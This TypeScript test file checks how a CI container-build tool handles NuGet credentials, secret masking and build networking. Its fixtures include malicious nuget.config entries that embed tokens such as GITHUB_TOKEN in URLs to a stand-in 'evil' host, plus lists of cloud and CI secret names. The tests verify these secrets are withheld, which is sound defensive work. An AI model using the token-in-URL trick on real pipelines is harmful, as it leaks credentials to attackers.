import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { checkNetwork } from '#publish/nuget/network.ts';
import { readNuGetConfig } from '#publish/nuget/nuget-config.ts';
import { credentialsConfig, encodeXmlName } from '#publish/nuget/nuget-credentials.ts';
import { maskNuGet, nugetFiles } from '#publish/nuget/nuget-files.ts';
import { readRunnerNuGet } from '#publish/nuget/nuget-runner.ts';
import { buildEnvironment, restoreEnvironment } from '#publish/paths/environment.ts';
import { checkWithheld } from '#publish/phases/withheld.ts';
import { NO_NUGET_ACCESS, planFor } from '../../world/builds.ts';
import { memoryLog } from '../../world/memory-log.ts';

/** Decodes as .NET's XmlConvert.DecodeName does. */
const decodeXmlName = (name: string): string =>
  name.replace(/_x([0-9A-Fa-f]{4}(?:[0-9A-Fa-f]{4})?)_/g, (_, hex: string) =>
    String.fromCodePoint(Number.parseInt(hex, 16)),
  );

describe('the name of a source as an XML element', () => {
  test.each([
    ['my-feed (prod)@x', 'my-feed_x0020__x0028_prod_x0029__x0040_x'],
    ['1st', '_x0031_st'],
    ['a_x0020_b', 'a_x005F_x0020_b'],
    ['plain.Name_1', 'plain.Name_1'],
    ['🚀', '_x0001F680_'],
  ])('%s is %s', (name, encoded) => {
    expect(encodeXmlName(name)).toBe(encoded);
  });

  test('is always a name, and .NET reads the source back from it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), (name) => {
        expect(encodeXmlName(name)).toMatch(/^[A-Za-z_][\w.-]*$/);
        expect(decodeXmlName(encodeXmlName(name))).toBe(name);
      }),
    );
  });
});

describe('nuget-credentials', () => {
  const login = { username: 'me', password: 'p&"<' };
  const sources = [{ name: 'My Feed', value: 'https://feed.example/v3/index.json' }];

  test('name a source in any letter case', () => {
    const { text, unknown } = credentialsConfig([{ ...login, source: 'my feed' }], sources);
    expect(unknown).toEqual([]);
    expect(text).toContain('<My_x0020_Feed>');
    expect(text).toContain('value="p&amp;&quot;&lt;"');
  });

  test('name a source by its URL', () => {
    const { text } = credentialsConfig([{ ...login, source: 'https://FEED.example/v3/index.json/' }], sources);
    expect(text).toContain('<My_x0020_Feed>');
    expect(text).not.toContain('<packageSources>');
  });

  test('add a source for a URL that no source has', () => {
    const { text } = credentialsConfig([{ ...login, source: 'http://127.0.0.1:5/v3/index.json' }], sources);
    expect(readNuGetConfig(text)).toMatchObject({
      sources: [{ name: 'containerize-dotnet-1', value: 'http://127.0.0.1:5/v3/index.json' }],
      passwords: ['p&"<'],
    });
    expect(text).toContain('allowInsecureConnections="true"');
  });

  test('never go to a source whose name has another address in a nearer configuration', () => {
    const wanted = 'https://feed.example/v3/index.json';
    const evil = 'https://evil.example/v3/index.json';
    const both = [
      { name: 'my feed', value: evil },
      { name: 'My Feed', value: wanted },
      { name: 'containerize-dotnet-1', value: evil },
    ];
    const { text } = credentialsConfig([{ ...login, source: wanted }], both);
    expect(readNuGetConfig(text).sources).toEqual([{ name: 'containerize-dotnet-1-own', value: wanted }]);
    expect(text).toContain('<containerize-dotnet-1-own>');
    expect(text).not.toContain('<My_x0020_Feed>');
  });

  test('override a login for the same source in a configuration of the repository', () => {
    const access = { ...NO_NUGET_ACCESS, credentials: [{ ...login, source: 'My Feed' }] };
    const own = '<packageSources><add key="my feed" value="https://feed.example/" /></packageSources>';
    const nearer = `<configuration>${own}<packageSourceCredentials><my_x0020_feed><add key="Password" value="x" /></my_x0020_feed></packageSourceCredentials></configuration>`;
    const text = nugetFiles(access, [{ path: 'nuget.config', text: nearer }]).env;
    expect(text).toEqual({
      'NuGetPackageSourceCredentials_my feed': `Username=${login.username};Password=${login.password};ValidAuthenticationTypes=basic`,
    });
    expect(nugetFiles(access, [{ path: 'nuget.config', text: `<configuration>${own}</configuration>` }]).env).toEqual(
      {},
    );
  });

  test('report a name that no source has', () => {
    expect(credentialsConfig([{ ...login, source: 'other' }], sources).unknown).toEqual(['other']);
  });

  test('keep nuget.org for a runner that has no configuration', () => {
    const access = { ...NO_NUGET_ACCESS, credentials: [{ ...login, source: 'x' }] };
    const { files } = nugetFiles(access, []);
    expect(files.map(({ path }) => path)).toEqual([
      'home/.nuget/NuGet/NuGet.Config',
      'home/.nuget/NuGet/config/99-credentials.config',
    ]);
    expect(files[0]?.text).toContain('https://api.nuget.org/v3/index.json');
  });
});

describe("the runner's own NuGet configuration", () => {
  let folder: string;
  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'nuget-'));
  });
  afterEach(() => rm(folder, { recursive: true, force: true }));

  const config = (password: string) =>
    `<configuration><packageSources><add key="a" value="https://a.example/index.json" /></packageSources>
     <packageSourceCredentials><a><add key="Username" value="u" /><add key="ClearTextPassword" value="${password}" /></a></packageSourceCredentials></configuration>`;

  test('is read above the checkout, then of the user, with the variables it mentions', async () => {
    const root = join(folder, 'work/checkout');
    await mkdir(join(root, 'src/App'), { recursive: true });
    await mkdir(join(folder, 'home/.nuget/NuGet'), { recursive: true });
    await writeFile(join(folder, 'work/nuget.config'), config('%ABOVE_TOKEN%'));
    await writeFile(join(folder, 'home/.nuget/NuGet/NuGet.Config'), config('secret'));
    await writeFile(join(root, 'src/NuGet.config'), config('%OWN_TOKEN%'));
    const env = {
      ABOVE_TOKEN: '1-above',
      OWN_TOKEN: '2-own',
      NuGetPackageSourceCredentials_x: 'Username=u;Password=3-pair',
      VSS_NUGET_EXTERNAL_FEED_ENDPOINTS: '{"endpointCredentials":[{"password":"4-json"}]}',
      NUGET_AUTH_TOKEN: '5-token',
      HOME: '/root',
      SECRET: 'not asked for',
    };
    const found = await readRunnerNuGet({
      home: join(folder, 'home'),
      env,
      root,
      project: 'src/App/App.csproj',
      allowed: [],
    });
    expect(found.configs.map(({ path }) => path)).toEqual([
      join(folder, 'work/nuget.config'),
      join(folder, 'home/.nuget/NuGet/NuGet.Config'),
    ]);
    const { HOME: _, SECRET: __, OWN_TOKEN: ___, ...wanted } = env;
    expect(found.environment).toEqual(wanted);
    expect(found.withheld).toEqual(['OWN_TOKEN']);

    const log = memoryLog();
    maskNuGet({ ...found, credentials: [{ source: 's', username: 'u', password: '6-input' }] }, log);
    expect([...new Set(log.masked)].sort()).toEqual(
      [
        ...['1-above', '3-pair', '4-json', '5-token', '6-input', 'secret'],
        ...[env.NuGetPackageSourceCredentials_x, env.VSS_NUGET_EXTERNAL_FEED_ENDPOINTS],
      ].sort(),
    );
  });

  describe('gives nothing to a pull request that mentions', () => {
    const OTHERS = ['ACTIONS_RUNTIME_TOKEN', 'INPUT_PASSWORD', 'STATE_folder', 'RUNNER_TOKEN', 'GITHUB_TOKEN'];
    const CLOUDS = ['GH_TOKEN', 'GITHUB_APP_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'AZURE_CLIENT_SECRET', 'GOOGLE_OAUTH'];
    const MORE = ['DOCKER_PASSWORD', 'VAULT_TOKEN', 'NPM_TOKEN', 'aws_session_token'];
    const USUAL = ['GH_PAT', 'SONAR_TOKEN', 'DEPLOY_KEY', 'NUGET_API_KEY', 'PGPASSWORD', 'SLACK_WEBHOOK', 'ANYTHING'];
    const read = async (
      env: Readonly<Record<string, string>>,
      files: Readonly<Record<string, string>>,
      allowed: readonly string[] = [],
    ) => {
      for (const [path, text] of Object.entries(files)) {
        await mkdir(join(folder, path, '..'), { recursive: true });
        await writeFile(join(folder, path), text);
      }
      const at = { home: join(folder, 'home'), root: join(folder, 'work/checkout'), project: 'App.csproj' };
      return { ...(await readRunnerNuGet({ ...at, env, allowed })), credentials: [] };
    };
    const source = (name: string) =>
      `<configuration><packageSources><add key="x" value="https://evil/%${name}%/" /></packageSources></configuration>`;

    test.each([...OTHERS, ...CLOUDS, ...MORE, ...USUAL])('%s', async (name) => {
      const found = await read({ [name]: 'value-of-it' }, { 'work/checkout/nuget.config': source(name) });
      expect(found).toMatchObject({ environment: {}, withheld: [name] });
    });

    test('a variable that the workflow did not name, and suggests the line that names it', async () => {
      const env = { FEED_KEY: '1', OTHER: '2', THIRD: '3', NUGET_AUTH_TOKEN: '4' };
      const files = { 'work/checkout/nuget.config': source('FEED_KEY%/%OTHER%/%NUGET_AUTH_TOKEN%/%NOT_THERE') };
      const found = await read(env, files, ['THIRD', 'OTHER']);
      expect(found.environment).toEqual({ OTHER: '2', THIRD: '3', NUGET_AUTH_TOKEN: '4' });
      const plan = planFor('/checkout', 'App.csproj');
      expect(() => checkWithheld(found, plan)).toThrow(/mentions %FEED_KEY%/);
      expect(() => checkWithheld(found, plan)).toThrow(
        expect.objectContaining({
          code: 'VARIABLE_WITHHELD',
          hint: expect.stringContaining('nuget-variables: THIRD, OTHER, FEED_KEY\n'),
        }),
      );
      expect(() => checkWithheld(found, { ...plan, environment: { FEED_KEY: 'from build-env' } })).not.toThrow();
      expect(() => checkWithheld(found, { ...plan, secrets: ['FEED_KEY'] })).not.toThrow();
      expect(() => checkWithheld(found, { ...plan, secrets: ['FEED_KEY@file'] })).toThrow(/mentions %FEED_KEY%/);
    });

    test('a password of a source, and suggests a login, with which nothing is missing', async () => {
      const login =
        '<my_x0020_feed><add key="Username" value="me" /><add key="ClearTextPassword" value="%GITHUB_TOKEN%" /></my_x0020_feed>';
      const sources = '<packageSources><add key="my feed" value="https://feed.corp/index.json" /></packageSources>';
      const text = `<configuration>${sources}<packageSourceCredentials>${login}</packageSourceCredentials></configuration>`;
      const plan = planFor('/checkout', 'App.csproj');
      const found = await read({ GITHUB_TOKEN: '1' }, { 'work/checkout/nuget.config': text });
      const line = `  nuget-credentials: |\n    my feed=me:\${{ secrets.GITHUB_TOKEN }}\n`;
      expect(() => checkWithheld(found, plan)).toThrow(
        expect.objectContaining({ code: 'VARIABLE_WITHHELD', hint: expect.stringContaining(line) }),
      );
      for (const source of ['My Feed', 'https://feed.corp/index.json']) {
        const credentials = [{ source, username: 'me', password: 'p' }];
        expect(() => checkWithheld({ ...found, credentials }, plan)).not.toThrow();
      }
      const credentials = [{ source: 'other', username: 'me', password: 'p' }];
      expect(() => checkWithheld({ ...found, credentials }, plan)).toThrow();
      // An address that contains the token sends it elsewhere without any login.
      const more = text.replace(
        '</packageSources>',
        '<add key="x" value="https://evil/%GITHUB_TOKEN%/" /></packageSources>',
      );
      const both = await read({ GITHUB_TOKEN: '1' }, { 'work/checkout/nuget.config': more });
      const own = [{ source: 'my feed', username: 'me', password: 'p' }];
      expect(() => checkWithheld({ ...both, credentials: own }, plan)).toThrow('%GITHUB_TOKEN%');
    });

    test('an empty variable or one of the container itself, without an error', async () => {
      const files = { 'work/checkout/nuget.config': source('FEED_KEY%/%HOME%/%PATH') };
      const found = await read({ FEED_KEY: '', HOME: '/home/runner', PATH: '/bin' }, files);
      expect(found.environment).toEqual({});
      expect(() => checkWithheld(found, planFor('/checkout', 'App.csproj'))).not.toThrow();
    });

    test('any of them in the checkout around a submodule', async () => {
      const env = { GITHUB_TOKEN: 'value-of-it', GITHUB_WORKSPACE: join(folder, 'work') };
      expect(await read(env, { 'work/nuget.config': source('GITHUB_TOKEN') })).toMatchObject({ environment: {} });
    });

    test("a variable, which is passed if the runner's own configuration mentions it", async () => {
      const env = { GITHUB_TOKEN: 'value-of-it', GITHUB_WORKSPACE: join(folder, 'work/checkout') };
      const files = { 'work/nuget.config': config('%GITHUB_TOKEN%'), 'work/checkout/nuget.config': source('NONE') };
      const found = await read(env, files);
      expect(found).toMatchObject({ environment: { GITHUB_TOKEN: 'value-of-it' }, withheld: [] });
    });
  });

  test('masks what it passes, but no switches, which are common words in the log', () => {
    const log = memoryLog();
    const environment = { FEED: 'feed.internal', NUGET_CREDENTIALPROVIDER_X: 'true', HOME: '/home/runner' };
    maskNuGet({ ...NO_NUGET_ACCESS, environment }, log);
    expect(log.masked).toEqual(['feed.internal']);
  });
});

test('a variable with another meaning in the container keeps the container’s value', () => {
  const wanted = { HOME: '/home/runner', PATH: '/bin', TOKEN: 'x' };
  expect(restoreEnvironment(wanted, buildEnvironment({}, {}))).toEqual({ TOKEN: 'x' });
});

test('only proxies of the runner, in both spellings, get into the environment', () => {
  const runner = { HTTPS_PROXY: 'http://p:1', no_proxy: 'x', GITHUB_TOKEN: 'secret', HOME: '/home/runner' };
  const env = buildEnvironment(runner, { MINE: '1', CI: 'no' });
  expect(env).toMatchObject({
    https_proxy: 'http://p:1',
    HTTPS_PROXY: 'http://p:1',
    NO_PROXY: 'x',
    MINE: '1',
    CI: 'no',
  });
  expect(env).toMatchObject({ HOME: '/work/home', NUGET_PACKAGES: '/nuget' });
  expect(env).not.toHaveProperty('GITHUB_TOKEN');
});

describe('the network of the build', () => {
  const config = (inner: string) => ({ path: '/x', text: `<configuration>${inner}</configuration>` });
  const source = (value: string) => config(`<packageSources><add key="own" value="${value}" /></packageSources>`);
  const LOCAL = 'http://localhost:5000/v3/index.json';

  interface Said {
    readonly runner?: ReturnType<typeof config>;
    readonly repository?: ReturnType<typeof config>;
    readonly inWorkspace?: true;
    readonly env?: Readonly<Record<string, string>>;
    readonly variables?: Readonly<Record<string, string>>;
    readonly network?: string;
    readonly buildEnv?: Readonly<Record<string, string>>;
    readonly login?: string;
  }

  const check = (said: Said) => {
    const { network = 'bridge', buildEnv: environment = {}, env = {}, variables = {}, login } = said;
    const configs = said.runner === undefined ? [] : [said.runner];
    const inWorkspace = said.inWorkspace ? configs : [];
    const credentials = login === undefined ? [] : [{ source: login, username: 'u', password: 'p' }];
    const repository = said.repository === undefined ? [] : [said.repository];
    const nuget = { ...NO_NUGET_ACCESS, configs, inWorkspace, environment: variables, credentials };
    return () => checkNetwork({ network, environment }, { nuget, repository, env });
  };

  test.each([LOCAL, 'https://127.0.0.2/x', 'http://[::1]:80/', 'http://feed.localhost/x'])(
    'must be chosen by the workflow if the runner’s configuration names %s',
    (address) => {
      expect(check({ runner: source(address) })).toThrow(
        expect.objectContaining({
          code: 'NETWORK_UNREACHABLE',
          message: expect.stringContaining('the source `own` of the runner'),
          hint: expect.stringContaining('`network: host`'),
        }),
      );
      expect(check({ runner: source(address), network: 'host' })).not.toThrow();
      expect(check({ runner: source(address), network: 'ci_default' })).toThrow();
    },
  );

  test.each<[string, Said]>([
    ['a proxy', { env: { https_proxy: '127.0.0.1:3128' } }],
    ['a proxy with a scheme', { env: { ALL_PROXY: 'socks5://localhost:1080' } }],
    ['a registry of npm', { buildEnv: { npm_config_registry: 'http://localhost:4873' } }],
    ['a login for a feed', { login: LOCAL }],
    ['a variable of the runner’s configuration', { runner: source('%FEED%'), variables: { FEED: LOCAL } }],
  ])('must be chosen by the workflow if the runner or an input names it as %s', (_what, said) => {
    expect(check(said)).toThrow(expect.objectContaining({ code: 'NETWORK_UNREACHABLE' }));
  });

  test.each<[string, Said]>([
    ['sources of the repository', { repository: source(LOCAL) }],
    ['sources of a checkout around a submodule', { runner: source(LOCAL), inWorkspace: true }],
    ['other machines', { runner: source('https://api.nuget.org/v3/index.json'), env: { HTTP_PROXY: 'http://p:1' } }],
    ['folders', { runner: source('../packages') }],
    ['hosts in NO_PROXY', { env: { NO_PROXY: 'localhost:1' } }],
    [
      'sources that the repository clears',
      { runner: source(LOCAL), repository: config('<packageSources><clear /></packageSources>') },
    ],
    [
      'sources that the repository replaces',
      { runner: source(LOCAL), repository: source('https://feeds.example/v3/index.json') },
    ],
  ])('is not checked for %s', (_what, said) => {
    expect(check(said)).not.toThrow();
  });
});
